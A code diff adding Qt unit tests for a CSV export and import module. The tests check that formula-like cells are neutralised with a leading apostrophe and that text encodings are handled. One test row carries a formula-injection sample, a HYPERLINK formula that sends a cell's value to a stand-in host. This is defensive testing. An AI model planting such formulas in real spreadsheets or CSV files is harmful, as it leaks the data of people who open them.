@@ -645,6 +645,102 @@ private slots:
         QCOMPARE(entriesOf(fresh.rows), entriesOf(rows));
     }
 
+    // A cell a spreadsheet would run gets an apostrophe before it, whichever column it is in,
+    // and comes back from the import without it; numbers and the "-" of no result stay bare.
+    void formulaCells_data() {
+        QTest::addColumn<QByteArray>("cell");
+        QTest::addColumn<bool>("guarded");
+        QTest::newRow("equals") << QByteArray("=1+2") << true;
+        QTest::newRow("hyperlink")
+            << QByteArray("=HYPERLINK(\"http://x.example/?x=\"&C3,\"go\")") << true;
+        QTest::newRow("plus") << QByteArray("+1") << true;
+        QTest::newRow("at") << QByteArray("@SUM(A1)") << true;
+        QTest::newRow("tab") << QByteArray("\t=1") << true;
+        QTest::newRow("carriage return") << QByteArray("\r=1") << true;
+        QTest::newRow("minus word") << QByteArray("-cmd") << true;
+        QTest::newRow("minus blank") << QByteArray("- 1") << true;
+        QTest::newRow("negative number") << QByteArray("-12") << false;
+        QTest::newRow("not ranked") << QByteArray("-") << false;
+        QTest::newRow("inside") << QByteArray("a=b+c") << false;
+        QTest::newRow("rank text") << QByteArray("Rank 3 / Page 1") << false;
+        // An apostrophe of the list's own is kept through export and import.
+        QTest::newRow("apostrophe then formula") << QByteArray("'=1") << true;
+        QTest::newRow("apostrophe then text") << QByteArray("'quoted") << false;
+    }
+    void formulaCells() {
+        QFETCH(QByteArray, cell);
+        QFETCH(bool, guarded);
+        const std::string value = cell.toStdString();
+        std::vector<EntryRow> rows = listOf({"a.com|k"});
+        rows[0].cells[EngineColumn(Google)] = value;
+        rows[0].cells[ColKeywords] = value;
+        const QByteArray csv = tw::exchange::exportCsv(rows, kLabels);
+        CsvReader reader(view(csv));
+        CsvRecord record;
+        QVERIFY(reader.next(record) && reader.next(record));
+        const std::string written = guarded ? "'" + value : value;
+        QCOMPARE(record.fields[2], written);
+        QCOMPARE(record.fields[3], written);
+
+        ImportResult again;
+        QVERIFY(tw::exchange::importCsv(csv, rows, again));
+        QCOMPARE(again.added, 0);
+        QCOMPARE(again.skipped, 0);
+        ImportResult fresh;
+        QVERIFY(tw::exchange::importCsv(csv, {}, fresh));
+        QCOMPARE(fresh.added, 1);
+        QCOMPARE(fresh.rows[0].cells[ColKeywords], std::string(trimBlanks(value)));
+    }
+
+    // Another program's guarded cells (a spreadsheet saving text that starts with "=") lose
+    // their apostrophe; an apostrophe before ordinary text stays.
+    void importTakesGuardOff() {
+        ImportResult result;
+        QVERIFY(tw::exchange::importCsv("url,keywords\n'@a.com,'=1+2\nb.com,'blue\n", {}, result));
+        QCOMPARE(entriesOf(result.rows), (QList<QByteArray>{"@a.com|=1+2", "b.com|'blue"}));
+    }
+
+    // A UTF-16 file with its byte order mark reads as the same text in UTF-8; other text that
+    // holds NUL bytes is no text file.
+    void importEncodings_data() {
+        QTest::addColumn<QByteArray>("bytes");
+        QTest::addColumn<bool>("read");
+        const QString text = QStringLiteral("url,keywords\r\na.com,caf\u00e9 \U0001F600\r\n");
+        QByteArray le("\xFF\xFE", 2);
+        QByteArray be("\xFE\xFF", 2);
+        for (const QChar c : text) {
+            const char lo = char(c.unicode() & 0xff);
+            const char hi = char(c.unicode() >> 8);
+            le.append(lo).append(hi);
+            be.append(hi).append(lo);
+        }
+        QTest::newRow("UTF-16 LE") << le << true;
+        QTest::newRow("UTF-16 BE") << be << true;
+        QTest::newRow("UTF-8 with mark") << "\xEF\xBB\xBF" + text.toUtf8() << true;
+        QTest::newRow("UTF-16 LE without mark") << le.mid(2) << false;
+        QTest::newRow("NUL in UTF-8") << QByteArray("url,keywords\na.com,k\0x\n", 23) << false;
+        QTest::newRow("NUL in UTF-16") << le + QByteArray("\0\0", 2) << false;
+        QTest::newRow("odd UTF-16") << le + QByteArray("a", 1) << false;
+    }
+    void importEncodings() {
+        QFETCH(QByteArray, bytes);
+        QFETCH(bool, read);
+        tw::test::ScopedWorkDir dir;
+        const QString path = dir.file(QStringLiteral("list.csv"));
+        writeFile(path, bytes);
+        ImportResult result;
+        QString error;
+        QCOMPARE(tw::exchange::importFile(path, std::string(), {}, result, &error), read);
+        if (read) {
+            QCOMPARE(entriesOf(result.rows),
+                     QList<QByteArray>{"a.com|caf\xC3\xA9 \xF0\x9F\x98\x80"});
+        } else {
+            QVERIFY2(error.contains(QStringLiteral("not a text file")), qPrintable(error));
+            QVERIFY2(error.contains(QStringLiteral("list.csv")), qPrintable(error));
+            QVERIFY(result.rows.empty());
+        }
+    }
+
     void writeCsv() {
         tw::test::ScopedWorkDir dir;
         const QString path = dir.file(QStringLiteral("out.csv"));
